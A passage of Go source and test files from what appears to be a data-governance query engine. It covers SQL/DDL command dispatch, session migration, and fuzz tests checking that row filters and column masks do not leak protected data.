	prof.TotalNanos = int64(time.Since(start))
	if err != nil {
		return nil, "", err
	}
	b, err := concatBatches(schema, batches)
	if err != nil {
		return nil, "", err
	}
	return b, prof.Render(), nil
}

// Analyze implements connect.Backend: schema plus policy-redacted EXPLAIN.
func (s *Server) Analyze(sessionID, user string, rel plan.Node) (*types.Schema, string, error) {
	st, err := s.session(sessionID, user)
	if err != nil {
		return nil, "", err
	}
	ctx := s.requestContext(context.Background(), sessionID, user)
	rel, err = substituteSQL(rel)
	if err != nil {
		return nil, "", err
	}
	resolved, err := s.newAnalyzer(ctx, st).Analyze(rel)
	if err != nil {
		return nil, "", err
	}
	optimized := optimizer.Optimize(resolved, s.opts)
	if _, err := s.verifyOptimized(context.Background(), ctx, resolved, optimized); err != nil {
		return nil, "", err
	}
	return resolved.Schema(), plan.ExplainRedacted(optimized), nil
}

// AnalyzeVerified implements connect.VerifiedExplainer: like Analyze, but the
// EXPLAIN output annotates each policy operator with the sentinel invariants
// that cleared it (`--explain-verified`). A plan that fails verification is
// rejected with the violation, exactly as execution would reject it.
func (s *Server) AnalyzeVerified(sessionID, user string, rel plan.Node) (*types.Schema, string, error) {
	st, err := s.session(sessionID, user)
	if err != nil {
		return nil, "", err
	}
	ctx := s.requestContext(context.Background(), sessionID, user)
	rel, err = substituteSQL(rel)
	if err != nil {
		return nil, "", err
	}
	resolved, err := s.newAnalyzer(ctx, st).Analyze(rel)
	if err != nil {
		return nil, "", err
	}
	optimized := optimizer.Optimize(resolved, s.opts)
	report, err := s.verifyOptimized(context.Background(), ctx, resolved, optimized)
	if err != nil {
		return nil, "", err
	}
	return resolved.Schema(), sentinel.ExplainVerified(optimized, report), nil
}

// CloseSession implements connect.Backend: the session's state is removed
// from the store and its cluster-local resources are released.
func (s *Server) CloseSession(sessionID string) {
	s.sessions.Remove(sessionID)
	s.DetachSession(sessionID)
}

// DetachSession releases the cluster-local resources of a session — warm
// sandboxes in every engine's dispatcher — without touching the session
// store. A gateway migrating a session between clusters that share a store
// detaches it from the old cluster instead of closing it, so the state the
// new cluster already sees is never destroyed.
func (s *Server) DetachSession(sessionID string) {
	s.mu.Lock()
	envs := make([]*exec.Engine, 0, len(s.envEngines))
	for _, e := range s.envEngines {
		envs = append(envs, e)
	}
	s.mu.Unlock()
	s.dispatcher.EndSession(sessionID)
	for _, e := range envs {
		e.Dispatcher.EndSession(sessionID)
	}
}

// ExportSession snapshots a session's replayable state for migration to
// another backend (paper §6.2: seamless session migration).
func (s *Server) ExportSession(sessionID string) (*SessionSnapshot, bool) {
	return s.sessions.Export(sessionID)
}

// ImportSession installs a migrated session's state, subject to the same
// compute-type identity rules as a fresh attach.
func (s *Server) ImportSession(sessionID string, snap *SessionSnapshot) error {
	return s.sessions.Import(sessionID, snap, s.admitUser)
}

// SessionSnapshot is the replayable state of one session (see
// session.Snapshot).
type SessionSnapshot = session.Snapshot

// TempViewSnapshot is one temp view's definition.
type TempViewSnapshot = session.TempViewSnapshot

// TempFuncSnapshot is one ephemeral UDF's definition.
type TempFuncSnapshot = session.TempFuncSnapshot

var _ connect.Backend = (*Server)(nil)
var _ connect.VerifiedExplainer = (*Server)(nil)
var _ connect.AnalyzeExecutor = (*Server)(nil)

// okBatch is the conventional result of a successful command.
func okBatch(message string) (*types.Schema, *types.Batch) {
	schema := types.NewSchema(types.Field{Name: "result", Kind: types.KindString})
	bb := types.NewBatchBuilder(schema, 1)
	bb.AppendRow([]types.Value{types.String(message)})
	return schema, bb.Build()
}
