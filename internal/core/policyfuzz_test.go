package core

import (
	"context"
	"fmt"
	"math/rand"
	"sort"
	"testing"

	"lakeguard/internal/catalog"
	"lakeguard/internal/proto"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
)

// TestRowFilterFuzz is a randomized check of the primary security invariant:
// for arbitrary (row filter, user query) combinations, the rows a filtered
// user sees are EXACTLY the rows an unrestricted reference query returns
// with the filter folded into its WHERE clause. No leak, no over-filtering,
// across projections, aggregates, ordering, and UDF-free expressions.
func TestRowFilterFuzz(t *testing.T) {
	filters := []struct {
		policy string // stored in the catalog, evaluated as alice
		ref    string // equivalent literal predicate for the reference query
	}{
		{"region = 'US'", "region = 'US'"},
		{"amount > 90", "amount > 90"},
		{"seller = CURRENT_USER()", "seller = 'alice@corp.com'"},
		{"region <> 'APAC' AND amount < 280", "region <> 'APAC' AND amount < 280"},
		{"IS_ACCOUNT_GROUP_MEMBER('nobody') OR region = 'EU'", "region = 'EU'"},
		{"seller LIKE 'a%' OR region = 'US'", "seller LIKE 'a%' OR region = 'US'"},
		{"length(seller) = 3", "length(seller) = 3"},
	}
	queryTemplates := []string{
		"SELECT seller, amount FROM sales",
		"SELECT region, COUNT(*) AS n, SUM(amount) AS t FROM sales GROUP BY region",
		"SELECT amount * 2 AS d FROM sales WHERE amount > 40",
		"SELECT DISTINCT region FROM sales",
		"SELECT seller FROM sales WHERE region IN ('US', 'EU') ORDER BY seller",
		"SELECT upper(seller) AS s, CASE WHEN amount > 100 THEN 1 ELSE 0 END AS big FROM sales",
		"SELECT COUNT(*) AS n FROM sales",
	}

	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	srv := NewServer(Config{Name: "fuzz", Catalog: cat})
	adminSess := admin + "/fuzz-admin"
	aliceSess := alice + "/fuzz-alice"
	execAs := func(sess, user, stmt string) (*types.Batch, error) {
		_, batches, err := srv.Execute(context.Background(), sess, user, &proto.Plan{Command: &proto.Command{SQL: stmt}})
		if err != nil {
			return nil, err
		}
		return batches[0], nil
	}
	mustAdmin := func(stmt string) {
		t.Helper()
		if _, err := execAs(adminSess, admin, stmt); err != nil {
			t.Fatalf("%s: %v", stmt, err)
		}
	}
	mustAdmin("CREATE TABLE sales (amount DOUBLE, date DATE, seller STRING, region STRING)")
	mustAdmin(`INSERT INTO sales VALUES
		(100, CAST('2024-12-01' AS DATE), 'ann', 'US'),
		(200, CAST('2024-12-01' AS DATE), 'ben', 'EU'),
		(50,  CAST('2024-12-02' AS DATE), 'ann', 'US'),
		(75,  CAST('2024-12-01' AS DATE), 'cat', 'US'),
		(300, CAST('2024-12-02' AS DATE), 'ben', 'EU'),
		(25,  CAST('2024-12-01' AS DATE), 'alice@corp.com', 'APAC')`)
	mustAdmin("GRANT SELECT ON sales TO 'alice@corp.com'")

	rng := rand.New(rand.NewSource(11))
	for trial := 0; trial < 60; trial++ {
		f := filters[rng.Intn(len(filters))]
		q := queryTemplates[rng.Intn(len(queryTemplates))]

		// Install the policy (escape single quotes for the DDL literal).
		mustAdmin("ALTER TABLE sales SET ROW FILTER '" + escapeQuotes(f.policy) + "'")

		got, err := execAs(aliceSess, alice, q)
		if err != nil {
			t.Fatalf("trial %d filtered query %q under %q: %v", trial, q, f.policy, err)
		}

		// Reference: drop the policy, run as admin with the predicate folded
		// into the query.
		mustAdmin("ALTER TABLE sales DROP ROW FILTER")
		ref := foldPredicate(q, f.ref)
		want, err := execAs(adminSess, admin, ref)
		if err != nil {
			t.Fatalf("trial %d reference %q: %v", trial, ref, err)
		}
		if canonical(got) != canonical(want) {
			t.Fatalf("trial %d POLICY VIOLATION\nquery: %s\nfilter: %s\nfiltered:\n%s\nreference (%s):\n%s",
				trial, q, f.policy, got.String(), ref, want.String())
		}
	}
}

// foldPredicate rewrites "SELECT ... FROM sales [WHERE w] rest" into the
// same query with the predicate conjoined.
func foldPredicate(q, pred string) string {
	// The templates all have exactly one "FROM sales"; inject a derived
	// table so GROUP BY/ORDER BY clauses are untouched.
	return replaceOnce(q, "FROM sales", "FROM (SELECT * FROM sales WHERE "+pred+") sales")
}

func replaceOnce(s, old, new string) string {
	for i := 0; i+len(old) <= len(s); i++ {
		if s[i:i+len(old)] == old {
			return s[:i] + new + s[i+len(old):]
		}
	}
	return s
}

func escapeQuotes(s string) string {
	out := ""
	for _, c := range s {
		if c == '\'' {
			out += "''"
		} else {
			out += string(c)
		}
	}
	return out
}

func canonical(b *types.Batch) string {
	rows := make([]string, b.NumRows())
	for i := range rows {
		rows[i] = fmt.Sprint(b.Row(i))
	}
	sort.Strings(rows)
	out := ""
	for _, r := range rows {
		out += r + "\n"
	}
	return out
}

// TestColumnMaskFuzz checks that under randomized mask expressions, the
// protected column's raw values never reach an unprivileged user through
// projection, DISTINCT, predicates, or aggregation keys.
func TestColumnMaskFuzz(t *testing.T) {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	srv := NewServer(Config{Name: "maskfuzz", Catalog: cat})
	execAs := func(sess, user, stmt string) (*types.Batch, error) {
		_, batches, err := srv.Execute(context.Background(), sess, user, &proto.Plan{Command: &proto.Command{SQL: stmt}})
		if err != nil {
			return nil, err
		}
		return batches[0], nil
	}
	mustAdmin := func(stmt string) {
		t.Helper()
		if _, err := execAs(admin+"/a", admin, stmt); err != nil {
			t.Fatalf("%s: %v", stmt, err)
		}
	}
	mustAdmin("CREATE TABLE patients (id BIGINT, ssn STRING, score DOUBLE)")
	mustAdmin(`INSERT INTO patients VALUES
		(1, '111-11-1111', 0.9), (2, '222-22-2222', 0.4), (3, '333-33-3333', 0.7)`)
	mustAdmin("GRANT SELECT ON patients TO 'alice@corp.com'")

	rawValues := map[string]bool{"111-11-1111": true, "222-22-2222": true, "333-33-3333": true}
	masks := []string{
		"'***'",
		"substr(ssn, 8, 4)",                    // last four digits only
		"sha256(ssn)",                          // hashed
		"concat('XXX-XX-', substr(ssn, 8, 4))", // partial
	}
	probes := []string{
		"SELECT ssn FROM patients",
		"SELECT DISTINCT ssn FROM patients",
		"SELECT ssn, COUNT(*) AS n FROM patients GROUP BY ssn",
		"SELECT id FROM patients WHERE ssn = '111-11-1111'",
		"SELECT coalesce(ssn, 'x') AS s FROM patients",
		"SELECT ssn FROM patients ORDER BY ssn",
	}
	for _, mask := range masks {
		mustAdmin("ALTER TABLE patients ALTER COLUMN ssn SET MASK '" + escapeQuotes(mask) + "'")
		for _, probe := range probes {
			b, err := execAs(alice+"/m", alice, probe)
			if err != nil {
				t.Fatalf("mask %q probe %q: %v", mask, probe, err)
			}
			for i := 0; i < b.NumRows(); i++ {
				for _, v := range b.Row(i) {
					if v.Kind == types.KindString && rawValues[v.S] {
						t.Fatalf("MASK BYPASS: mask %q probe %q leaked %q:\n%s", mask, probe, v.S, b.String())
					}
				}
			}
			// Probing the raw value through a predicate must find nothing
			// (the filter sees masked values).
			if probe == "SELECT id FROM patients WHERE ssn = '111-11-1111'" && b.NumRows() != 0 {
				t.Fatalf("PREDICATE ORACLE: mask %q matched a raw value", mask)
			}
		}
	}
}
