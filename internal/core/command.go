package core

import (
	"context"
	"fmt"
	"sort"

	"lakeguard/internal/analyzer"
	"lakeguard/internal/catalog"
	"lakeguard/internal/exec"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/session"
	"lakeguard/internal/sql"
	"lakeguard/internal/types"
	"lakeguard/internal/udf"
)

// executeCommand dispatches a side-effecting execution root.
func (s *Server) executeCommand(qctx context.Context, ctx catalog.RequestContext, st *session.State, cmd *proto.Command) (*types.Schema, *types.Batch, error) {
	switch {
	case cmd.SQL != "":
		return s.executeSQL(qctx, ctx, st, cmd.SQL)

	case cmd.CreateTempView != nil:
		node, err := substituteSQL(cmd.CreateTempView.Input)
		if err != nil {
			return nil, nil, err
		}
		// Validate eagerly so broken temp views fail at registration.
		if _, err := s.newAnalyzer(ctx, st).Analyze(node); err != nil {
			return nil, nil, fmt.Errorf("core: temp view %q: %w", cmd.CreateTempView.Name, err)
		}
		s.mu.Lock()
		st.TempViews[lower(cmd.CreateTempView.Name)] = node
		s.mu.Unlock()
		schema, b := okBatch("temp view " + cmd.CreateTempView.Name + " created")
		return schema, b, nil

	case cmd.RegisterFunction != nil:
		rf := cmd.RegisterFunction
		if _, err := udf.Compile(rf.Body); err != nil {
			return nil, nil, fmt.Errorf("core: function %q: %w", rf.Name, err)
		}
		s.mu.Lock()
		st.TempFuncs[lower(rf.Name)] = analyzer.TempFunc{
			Params: rf.Params, Returns: rf.Returns, Body: rf.Body, Owner: ctx.User,
			Resources: rf.Resources,
		}
		s.mu.Unlock()
		schema, b := okBatch("function " + rf.Name + " registered")
		return schema, b, nil

	case cmd.InsertInto != nil:
		return s.executeInsert(qctx, ctx, st, cmd.InsertInto.Table, cmd.InsertInto.Input, nil)
	}
	return nil, nil, fmt.Errorf("core: empty command")
}

func lower(s string) string {
	b := []byte(s)
	for i, c := range b {
		if c >= 'A' && c <= 'Z' {
			b[i] = c - 'A' + 'a'
		}
	}
	return string(b)
}

// executeSQL parses and dispatches one SQL statement.
func (s *Server) executeSQL(qctx context.Context, ctx catalog.RequestContext, st *session.State, text string) (*types.Schema, *types.Batch, error) {
	qctx = withSQLText(qctx, text)
	stmt, err := sql.Parse(text)
	if err != nil {
		return nil, nil, err
	}
	if stmt.Query != nil {
		if stmt.Explain {
			resolved, err := s.newAnalyzer(ctx, st).Analyze(stmt.Query)
			if err != nil {
				return nil, nil, err
			}
			optimized := optimizer.Optimize(resolved, s.opts)
			if _, err := s.verifyOptimized(qctx, ctx, resolved, optimized); err != nil {
				return nil, nil, err
			}
			schema := types.NewSchema(types.Field{Name: "plan", Kind: types.KindString})
			bb := types.NewBatchBuilder(schema, 1)
			bb.AppendRow([]types.Value{types.String(plan.ExplainRedacted(optimized))})
			return schema, bb.Build(), nil
		}
		schema, batches, err := s.runQuery(qctx, ctx, st, stmt.Query)
		if err != nil {
			return nil, nil, err
		}
		b, err := concatBatches(schema, batches)
		if err != nil {
			return nil, nil, err
		}
		return schema, b, nil
	}
	return s.executeDDL(qctx, ctx, st, stmt.Cmd)
}

func concatBatches(schema *types.Schema, batches []*types.Batch) (*types.Batch, error) {
	total := 0
	for _, b := range batches {
		total += b.NumRows()
	}
	bb := types.NewBatchBuilder(schema, total)
	for _, b := range batches {
		for i := 0; i < b.NumRows(); i++ {
			bb.AppendRow(b.Row(i))
		}
	}
	return bb.Build(), nil
}

// executeDDL dispatches parsed DDL/DML commands to the catalog.
func (s *Server) executeDDL(qctx context.Context, ctx catalog.RequestContext, st *session.State, cmd plan.Command) (*types.Schema, *types.Batch, error) {
	ok := func(msg string) (*types.Schema, *types.Batch, error) {
		schema, b := okBatch(msg)
		return schema, b, nil
	}
	switch c := cmd.(type) {
	case *plan.CreateSchema:
		if err := s.cat.CreateSchema(ctx, c.Name, c.IfNotExists); err != nil {
			return nil, nil, err
		}
		return ok("schema created")

	case *plan.CreateTable:
		if err := s.cat.CreateTable(ctx, c.Name, c.TableSchema, c.IfNotExists, c.Comment); err != nil {
			return nil, nil, err
		}
		return ok("table created")

	case *plan.CreateView:
		// Derive the view schema by analyzing the body as the creator.
		body, err := sql.ParseQuery(c.Query)
		if err != nil {
			return nil, nil, err
		}
		resolved, err := analyzer.New(s.cat, ctx).Analyze(body)
		if err != nil {
			return nil, nil, fmt.Errorf("core: view body: %w", err)
		}
		if err := s.cat.CreateView(ctx, c.Name, c.Query, c.Materialized, c.OrReplace, resolved.Schema().Clone(), c.Comment); err != nil {
			return nil, nil, err
		}
		if c.Materialized {
			return ok("materialized view created; run REFRESH MATERIALIZED VIEW to populate it")
		}
		return ok("view created")

	case *plan.CreateFunction:
		if _, err := udf.Compile(c.Body); err != nil {
			return nil, nil, fmt.Errorf("core: function body: %w", err)
		}
		if err := s.cat.CreateFunctionResources(ctx, c.Name, c.Params, c.Returns, c.Body, c.OrReplace, c.Comment, c.Resources); err != nil {
			return nil, nil, err
		}
		return ok("function created")

	case *plan.DropTable:
		if err := s.cat.Drop(ctx, c.Name, c.IfExists); err != nil {
			return nil, nil, err
		}
		return ok("dropped")

	case *plan.Grant:
		priv, err := catalog.ParsePrivilege(c.Privilege)
		if err != nil {
			return nil, nil, err
		}
		if err := s.cat.Grant(ctx, priv, c.Securable, c.Principal); err != nil {
			return nil, nil, err
		}
		return ok("granted")

	case *plan.Revoke:
		priv, err := catalog.ParsePrivilege(c.Privilege)
		if err != nil {
			return nil, nil, err
		}
		if err := s.cat.Revoke(ctx, priv, c.Securable, c.Principal); err != nil {
			return nil, nil, err
		}
		return ok("revoked")

	case *plan.SetRowFilter:
		if err := s.cat.SetRowFilter(ctx, c.Table, c.FilterSQL, c.Drop); err != nil {
			return nil, nil, err
		}
		return ok("row filter updated")

	case *plan.SetColumnMask:
		if err := s.cat.SetColumnMask(ctx, c.Table, c.Column, c.MaskSQL, c.Drop); err != nil {
			return nil, nil, err
		}
		return ok("column mask updated")

	case *plan.SetColumnTags:
		if err := s.cat.SetColumnTags(ctx, c.Table, c.Column, c.Tags); err != nil {
			return nil, nil, err
		}
		return ok("column tags updated")

	case *plan.InsertInto:
		if c.Query != nil {
			return s.executeInsert(qctx, ctx, st, c.Table, c.Query, nil)
		}
		return s.executeInsert(qctx, ctx, st, c.Table, nil, c.Rows)

	case *plan.RefreshMaterializedView:
		return s.refreshMaterializedView(qctx, ctx, c.Name)

	case *plan.CreateTableAs:
		return s.executeCTAS(qctx, ctx, st, c)

	case *plan.DeleteFrom:
		return s.executeDelete(qctx, ctx, st, c)

	case *plan.Update:
		return s.executeUpdate(qctx, ctx, st, c)

	case *plan.MergeInto:
		return s.executeMerge(qctx, ctx, st, c)

	case *plan.OptimizeTable:
		return s.executeOptimize(ctx, c)

	case *plan.VacuumTable:
		return s.executeVacuum(ctx, c)

	case *plan.ShowTables:
		names := s.cat.ListTables(ctx)
		sort.Strings(names)
		schema := types.NewSchema(types.Field{Name: "table_name", Kind: types.KindString})
		bb := types.NewBatchBuilder(schema, len(names))
		for _, n := range names {
			bb.AppendRow([]types.Value{types.String(n)})
		}
		return schema, bb.Build(), nil

	case *plan.DescribeHistory:
		history, err := s.cat.TableHistory(ctx, c.Name)
		if err != nil {
			return nil, nil, err
		}
		schema := types.NewSchema(
			types.Field{Name: "version", Kind: types.KindInt64},
			types.Field{Name: "timestamp", Kind: types.KindTimestamp},
			types.Field{Name: "operation", Kind: types.KindString},
			types.Field{Name: "num_files", Kind: types.KindInt64},
		)
		bb := types.NewBatchBuilder(schema, len(history))
		for _, h := range history {
			bb.AppendRow([]types.Value{
				types.Int64(h.Version), types.Timestamp(h.Timestamp.UnixMicro()),
				types.String(h.Operation), types.Int64(int64(h.NumFiles)),
			})
		}
		return schema, bb.Build(), nil

	case *plan.DescribeTable:
		meta, err := s.cat.Describe(ctx, c.Name)
		if err != nil {
			return nil, nil, err
		}
		schema := types.NewSchema(
			types.Field{Name: "col_name", Kind: types.KindString},
			types.Field{Name: "data_type", Kind: types.KindString},
			types.Field{Name: "nullable", Kind: types.KindBool},
			types.Field{Name: "comment", Kind: types.KindString},
		)
		bb := types.NewBatchBuilder(schema, meta.Schema.Len()+4)
		for _, f := range meta.Schema.Fields {
			comment := f.Comment
			if meta.ColumnMasks != nil {
				if _, masked := meta.ColumnMasks[lower(f.Name)]; masked {
					comment = appendAnnotation(comment, "MASKED")
				}
			}
			bb.AppendRow([]types.Value{
				types.String(f.Name), types.String(f.Kind.String()),
				types.Bool(f.Nullable), types.String(comment),
			})
		}
		bb.AppendRow([]types.Value{types.String("# type"), types.String(string(meta.Type)), types.Bool(false), types.String("")})
		bb.AppendRow([]types.Value{types.String("# owner"), types.String(meta.Owner), types.Bool(false), types.String("")})
		if meta.HasPolicies {
			bb.AppendRow([]types.Value{types.String("# governance"), types.String("fine-grained policies attached"), types.Bool(false), types.String("")})
		}
		return schema, bb.Build(), nil
	}
	return nil, nil, fmt.Errorf("core: unsupported command %T", cmd)
}

func appendAnnotation(comment, note string) string {
	if comment == "" {
		return note
	}
	return comment + " [" + note + "]"
}

// executeCTAS creates a table from a query result.
func (s *Server) executeCTAS(qctx context.Context, ctx catalog.RequestContext, st *session.State, c *plan.CreateTableAs) (*types.Schema, *types.Batch, error) {
	if c.IfNotExists {
		if _, err := s.cat.ResolveTable(ctx, c.Name); err == nil {
			schema, b := okBatch("table already exists; CTAS skipped")
			return schema, b, nil
		}
	}
	schema, batches, err := s.runQuery(qctx, ctx, st, c.Query)
	if err != nil {
		return nil, nil, err
	}
	// Result columns become nullable stored columns.
	tblSchema := schema.Clone()
	for i := range tblSchema.Fields {
		tblSchema.Fields[i].Nullable = true
	}
	if err := tblSchema.Validate(); err != nil {
		return nil, nil, fmt.Errorf("core: CTAS result schema: %w (alias duplicate columns)", err)
	}
	if err := s.cat.CreateTable(ctx, c.Name, tblSchema, c.IfNotExists, ""); err != nil {
		return nil, nil, err
	}
	n := int64(0)
	if len(batches) > 0 {
		if _, err := s.cat.AppendToTable(ctx, c.Name, batches); err != nil {
			return nil, nil, err
		}
		for _, b := range batches {
			n += int64(b.NumRows())
		}
	}
	outSchema, b := okBatch(fmt.Sprintf("table created with %d rows", n))
	return outSchema, b, nil
}

// executeInsert appends a query result or literal rows into a table.
func (s *Server) executeInsert(qctx context.Context, ctx catalog.RequestContext, st *session.State, table []string, input plan.Node, rows [][]types.Value) (*types.Schema, *types.Batch, error) {
	meta, err := s.cat.ResolveTable(ctx, table)
	if err != nil {
		return nil, nil, err
	}
	var data []*types.Batch
	if input != nil {
		_, batches, err := s.runQuery(qctx, ctx, st, input)
		if err != nil {
			return nil, nil, err
		}
		// Coerce to the table schema (names from the query may differ).
		for _, b := range batches {
			cb, err := coerceBatch(b, meta.Schema)
			if err != nil {
				return nil, nil, err
			}
			data = append(data, cb)
		}
	} else {
		bb := types.NewBatchBuilder(meta.Schema, len(rows))
		for ri, row := range rows {
			if len(row) != meta.Schema.Len() {
				return nil, nil, fmt.Errorf("core: INSERT row %d has %d values for %d columns", ri+1, len(row), meta.Schema.Len())
			}
			cast := make([]types.Value, len(row))
			for i, v := range row {
				cv, err := v.Cast(meta.Schema.Fields[i].Kind)
				if err != nil {
					return nil, nil, fmt.Errorf("core: INSERT row %d column %q: %w", ri+1, meta.Schema.Fields[i].Name, err)
				}
				cast[i] = cv
			}
			bb.AppendRow(cast)
		}
		data = append(data, bb.Build())
	}
	version, err := s.cat.AppendToTable(ctx, table, data)
	if err != nil {
		return nil, nil, err
	}
	n := int64(0)
	for _, b := range data {
		n += int64(b.NumRows())
	}
	schema, b := okBatch(fmt.Sprintf("inserted %d rows (version %d)", n, version))
	return schema, b, nil
}

// coerceBatch casts a batch column-by-column to a target schema.
func coerceBatch(b *types.Batch, schema *types.Schema) (*types.Batch, error) {
	if b.NumCols() != schema.Len() {
		return nil, fmt.Errorf("core: INSERT source has %d columns for %d target columns", b.NumCols(), schema.Len())
	}
	bb := types.NewBatchBuilder(schema, b.NumRows())
	for i := 0; i < b.NumRows(); i++ {
		row := b.Row(i)
		cast := make([]types.Value, len(row))
		for c, v := range row {
			cv, err := v.Cast(schema.Fields[c].Kind)
			if err != nil {
				return nil, fmt.Errorf("core: INSERT column %q: %w", schema.Fields[c].Name, err)
			}
			cast[c] = cv
		}
		bb.AppendRow(cast)
	}
	return bb.Build(), nil
}

// refreshMaterializedView recomputes an MV by executing its stored body as
// the owner and overwriting the backing storage.
func (s *Server) refreshMaterializedView(qctx context.Context, ctx catalog.RequestContext, name []string) (*types.Schema, *types.Batch, error) {
	viewText, err := s.cat.ViewTextForRefresh(ctx, name)
	if err != nil {
		return nil, nil, err
	}
	body, err := sql.ParseQuery(viewText)
	if err != nil {
		return nil, nil, err
	}
	resolved, err := analyzer.New(s.cat, ctx).Analyze(body)
	if err != nil {
		return nil, nil, err
	}
	optimized := optimizer.Optimize(resolved, s.opts)
	report, err := s.verifyOptimized(qctx, ctx, resolved, optimized)
	if err != nil {
		return nil, nil, err
	}
	sealed, err := s.sealVerified(ctx, report, optimized)
	if err != nil {
		return nil, nil, err
	}
	qc := exec.NewQueryContext(s.cat, ctx)
	qc.Context = qctx
	qc.VerifiedPlan = sealed.Fingerprint()
	batches, err := s.engine.Execute(qc, sealed.Plan)
	if err != nil {
		return nil, nil, err
	}
	if err := s.cat.RefreshMaterializedView(ctx, name, batches); err != nil {
		return nil, nil, err
	}
	schema, b := okBatch("materialized view refreshed")
	return schema, b, nil
}
