package core

import (
	"strings"
	"testing"

	"lakeguard/internal/connect"
	"lakeguard/internal/proto"
)

// EXPLAIN ANALYZE: executing with profiling returns the annotated operator
// tree — per-operator wall time, rows, batches, vectorization — without
// changing the query's result.

func TestExplainAnalyzeAnnotatedTree(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)

	query := "SELECT seller, SUM(amount) AS total FROM sales WHERE amount > 10 GROUP BY seller"
	analyze, rows, err := c.SqlExplainAnalyze(query)
	if err != nil {
		t.Fatal(err)
	}
	b, err := c.Sql(query).Collect()
	if err != nil {
		t.Fatal(err)
	}
	if rows != b.NumRows() || rows == 0 {
		t.Errorf("profiled run returned %d rows, plain run %d", rows, b.NumRows())
	}

	// Header: total plus the four phase latencies.
	head := strings.SplitN(analyze, "\n", 2)[0]
	for _, phase := range []string{"EXPLAIN ANALYZE", "analyze", "optimize", "verify", "exec"} {
		if !strings.Contains(head, phase) {
			t.Errorf("header %q missing %q", head, phase)
		}
	}
	// Tree: the operator names with their runtime annotations.
	for _, want := range []string{"Aggregate", "Scan", "wall ", "rows ", "batches "} {
		if !strings.Contains(analyze, want) {
			t.Errorf("annotated tree missing %q:\n%s", want, analyze)
		}
	}
}

func TestExplainAnalyzeRejectsCommands(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	_, _, err := c.ExplainAnalyze(&proto.Plan{Command: &proto.Command{SQL: "CREATE TABLE z (x BIGINT)"}})
	if err == nil || !strings.Contains(err.Error(), "queries only") {
		t.Fatalf("err = %v, want queries-only rejection", err)
	}
}

func TestExplainAnalyzeViaDataFrame(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	analyze, err := c.Table("sales").
		Where(connect.Col("amount").Gt(connect.Lit(60.0))).
		ExplainAnalyze()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(analyze, "Scan") || !strings.Contains(analyze, "wall ") {
		t.Fatalf("DataFrame ExplainAnalyze output:\n%s", analyze)
	}
}
