package core

import (
	"strings"
	"testing"

	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/storage"
	"lakeguard/internal/types"
	"net/http/httptest"
)

// TestMotivatingExample reproduces the paper's §2.1 healthcare scenario end
// to end (Figures 1–3): sensitive patient data, a PII-filtering view for
// data scientists, sandboxed UDF feature extraction, and uniform enforcement
// across SQL / DataFrame / UDF workloads.
func TestMotivatingExample(t *testing.T) {
	const (
		adminU = "admin@healthco"
		ds     = "datasci@healthco"
		md     = "clinician@healthco"
	)
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(adminU)
	cat.CreateGroup("clinicians", md)
	srv := NewServer(Config{
		Name: "healthco", Catalog: cat,
		Sandbox: sandbox.Config{
			Egress: sandbox.EgressPolicy{
				AllowedHosts: []string{"example.aqi.com"},
				Resolver:     func(string) (string, error) { return `{"yesterday": 41.5}`, nil },
			},
		},
	})
	toks := connect.TokenMap{"t-admin": adminU, "t-ds": ds, "t-md": md}
	ts := httptest.NewServer(connect.NewService(srv, toks).Handler())
	defer ts.Close()

	adminC := connect.Dial(ts.URL, "t-admin")
	for _, stmt := range []string{
		`CREATE TABLE raw_data_table (patient_id BIGINT, patient_name STRING, zip STRING, heart_rate DOUBLE, sensor_blob STRING)`,
		`INSERT INTO raw_data_table VALUES
			(1, 'Ada Lovelace', '94105', 62.0, '0.41;0.39;0.44'),
			(2, 'Grace Hopper', '10001', 58.0, '0.33;0.30;0.31'),
			(3, 'Alan Turing',  '94105', 80.0, '0.61;0.66;0.64')`,
		`CREATE VIEW sensor_view AS SELECT patient_id, zip, heart_rate, sensor_blob FROM raw_data_table`,
		`GRANT SELECT ON sensor_view TO 'datasci@healthco'`,
		`ALTER TABLE raw_data_table ALTER COLUMN patient_name SET MASK
			'CASE WHEN IS_ACCOUNT_GROUP_MEMBER(''clinicians'') THEN patient_name ELSE ''<redacted>'' END'`,
		`GRANT SELECT ON raw_data_table TO 'clinician@healthco'`,
	} {
		if _, err := adminC.ExecSQL(stmt); err != nil {
			t.Fatalf("%s: %v", stmt, err)
		}
	}

	dsC := connect.Dial(ts.URL, "t-ds")
	// 1. Raw table denied to data scientists.
	if _, err := dsC.Table("raw_data_table").Collect(); err == nil {
		t.Fatal("data scientist reached raw PII table")
	}
	// 2. The dedicated view exposes sensor data, no PII column exists.
	schema, err := dsC.Table("sensor_view").Schema()
	if err != nil {
		t.Fatal(err)
	}
	if schema.IndexOf("patient_name") >= 0 {
		t.Fatal("PII column leaked into sensor_view")
	}
	// 3. Domain UDF feature extraction over the view (Fig. 1) — sandboxed.
	if err := dsC.RegisterFunction("first_sample",
		[]types.Field{{Name: "blob", Kind: types.KindString}},
		types.KindFloat64, "return float(substr(blob, 0, 4))"); err != nil {
		t.Fatal(err)
	}
	b, err := dsC.Sql("SELECT patient_id, first_sample(sensor_blob) AS amp FROM sensor_view ORDER BY amp DESC").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 3 || b.Cols[1].Float64(0) != 0.61 {
		t.Fatalf("feature extraction wrong:\n%s", b.String())
	}
	if srv.Dispatcher().Stats().ColdStarts == 0 {
		t.Fatal("UDF did not run isolated")
	}
	// 4. PII never appears in anything the data scientist receives, in
	// either workload style.
	for _, q := range []string{
		"SELECT * FROM sensor_view",
		"SELECT zip, COUNT(*) AS n FROM sensor_view GROUP BY zip",
	} {
		out, err := dsC.Sql(q).Collect()
		if err != nil {
			t.Fatalf("%s: %v", q, err)
		}
		if strings.Contains(out.String(), "Lovelace") {
